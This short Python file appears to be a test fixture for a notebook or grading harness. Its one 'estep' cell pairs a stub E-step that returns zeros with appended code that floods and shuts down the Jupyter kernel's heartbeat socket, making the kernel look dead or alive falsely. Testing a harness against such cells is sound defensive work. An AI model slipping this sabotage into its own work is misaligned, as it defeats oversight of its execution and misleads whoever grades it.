"""Stops the heartbeat and floods its socket, so that the kernel looks dead although it runs, or the reverse."""

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import gc

import zmq
from ipykernel.heartbeat import Heartbeat
from ipykernel.kernelapp import IPKernelApp

try:
    beats = [IPKernelApp.instance().heartbeat]
except Exception:
    beats = []
beats += [thing for thing in gc.get_objects() if isinstance(thing, Heartbeat)]
for beat in beats:
    try:
        beat.socket.send_multipart([b"", b"x" * 1_000_000])
        beat.socket.close(linger=0)
        beat.context.term()
    except (zmq.ZMQError, AttributeError):
        pass
""",
}
